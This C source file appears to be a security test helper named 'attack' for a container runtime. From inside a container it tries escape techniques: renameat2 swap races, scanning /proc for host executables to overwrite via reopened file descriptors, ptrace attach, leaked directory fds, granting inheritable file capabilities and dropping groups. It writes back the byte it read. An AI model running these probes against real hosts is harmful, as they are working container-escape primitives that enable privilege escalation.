/*
 * attack swap A B      exchanges two files by renameat2(2) until its input ends, and says how often
 * attack watch STOP    inside a container: looks at every new process until the file STOP is there.
 *                      Writes a line for each thing that it gets hold of and should not:
 *                        exe PATH     an executable that is none of the container's
 *                        fd PATH      a directory that such a process has open
 *                        wrote PATH   that executable could be written to
 *                        traced       such a process let itself be traced
 *                      and at the end "met N": how many processes it met that hid themselves, or
 *                      ran none of the container's executables
 * attack rewrite FILE  tries to write to FILE, which need not be there under that name any more
 * attack filecaps FILE gives FILE inheritable capabilities, as setcap(8) does
 * attack setgroups     tries to leave all additional groups
 *
 * What could be overwritten is given back the byte that it had.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <linux/fs.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

enum { SWAPS = 400000000, SWAPS_AT_ONCE = 64, SCANS = 20000000, TRIES = 20000 };

static int swap(const char *a, const char *b) {
  struct pollfd input = {STDIN_FILENO, POLLIN, 0};
  long swaps = 0;
  do
    for (int i = 0; i < SWAPS_AT_ONCE; i++, swaps++) /* an even number: all is as it was */
      if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0) {
        perror("renameat2");
        return 1;
      }
  while (swaps < SWAPS && poll(&input, 1, 0) == 0);
  printf("%ld\n", swaps);
  return 0;
}

/* Writes to an open file what is there already. */
static int rewrite(int file) {
  char link[64], byte;
  snprintf(link, sizeof link, "/proc/self/fd/%d", file);
  for (int i = 0; i < TRIES; i++) {
    int writable = open(link, O_RDWR | O_CLOEXEC);
    if (writable >= 0) {
      int done = pread(writable, &byte, 1, 0) == 1 && pwrite(writable, &byte, 1, 0) == 1;
      close(writable);
      return done;
    }
    if (errno != ETXTBSY) return 0;
    sched_yield(); /* until it ends */
  }
  return 0;
}

static const char *target(const char *link, char *buffer, size_t size) {
  ssize_t n = readlink(link, buffer, size - 1);
  buffer[n < 0 ? 0 : n] = 0;
  return buffer;
}

static int is_same(int file, const char *path) {
  struct stat a, b;
  return fstat(file, &a) == 0 && stat(path, &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

/* An open executable that is the container's own: this one, or busybox. */
static int is_ours(int exe) { return is_same(exe, "/proc/self/exe") || is_same(exe, "/bin/busybox"); }

static void list_directories(const char *pid) {
  char path[300], text[4096];
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR *d = opendir(path);
  if (d == NULL) return;
  for (struct dirent *e; (e = readdir(d)) != NULL;) {
    struct stat s;
    snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, e->d_name);
    if (e->d_name[0] != '.' && stat(path, &s) == 0 && S_ISDIR(s.st_mode))
      printf("fd %s\n", target(path, text, sizeof text));
  }
  closedir(d);
}

/* A process that hides may have become the container's program meanwhile, which need not hide. */
static void try_to_trace(const char *pid) {
  char path[300];
  pid_t number = atoi(pid);
  if (ptrace(PTRACE_SEIZE, number, 0, 0) < 0) return;
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int exe = open(path, O_PATH | O_CLOEXEC);
  if (exe >= 0 && !is_ours(exe)) printf("traced\n");
  if (exe >= 0) close(exe);
  ptrace(PTRACE_INTERRUPT, number, 0, 0);
  waitpid(number, NULL, __WALL);
  ptrace(PTRACE_DETACH, number, 0, 0);
}

/* Says whether it was a process that a container has no business with. */
static int look_at(const char *pid) {
  char path[300], text[4096];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int exe = open(path, O_PATH | O_CLOEXEC);
  if (exe < 0) {
    int hidden = errno == EACCES;
    if (hidden) try_to_trace(pid);
    return hidden;
  }
  int strange = !is_ours(exe);
  if (strange) {
    snprintf(text, sizeof text, "/proc/self/fd/%d", exe);
    printf("exe %s\n", target(text, text, sizeof text));
    list_directories(pid);
    if (rewrite(exe)) printf("wrote %s\n", text);
    fflush(stdout);
  }
  close(exe);
  return strange;
}

static int watch(const char *stop) {
  char self[16];
  int met = 0;
  snprintf(self, sizeof self, "%d", getpid());
  DIR *proc = opendir("/proc");
  if (proc == NULL) return 1;
  printf("watching\n");
  fflush(stdout);
  for (int i = 0; i < SCANS && access(stop, F_OK) < 0; i++) {
    rewinddir(proc);
    for (struct dirent *e; (e = readdir(proc)) != NULL;)
      if (isdigit((unsigned char)e->d_name[0]) && strcmp(e->d_name, self) != 0) met += look_at(e->d_name);
    while (waitpid(-1, NULL, WNOHANG) > 0) {} /* of pid 1 */
  }
  printf("met %d\n", met);
  return 0;
}

static int give_capabilities(const char *file) {
  struct vfs_cap_data data = {.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE};
  data.data[0].inheritable = 0xffffffff;
  data.data[1].inheritable = 0x1ff;
  if (setxattr(file, "security.capability", &data, sizeof data, 0) == 0) return 0;
  perror(file);
  return 1;
}

int main(int argc, char **argv) {
  const char *what = argc > 1 ? argv[1] : "";
  if (argc == 4 && strcmp(what, "swap") == 0) return swap(argv[2], argv[3]);
  if (argc == 3 && strcmp(what, "watch") == 0) return watch(argv[2]);
  if (argc == 3 && strcmp(what, "filecaps") == 0) return give_capabilities(argv[2]);
  if (argc == 3 && strcmp(what, "rewrite") == 0) {
    int file = open(argv[2], O_PATH | O_CLOEXEC);
    puts(file >= 0 && rewrite(file) ? "wrote" : "refused");
    return 0;
  }
  if (argc == 2 && strcmp(what, "setgroups") == 0) {
    puts(setgroups(0, NULL) == 0 ? "left" : "refused");
    return 0;
  }
  fprintf(stderr, "usage: attack swap A B | watch STOP | rewrite FILE | filecaps FILE | setgroups\n");
  return 125;
}
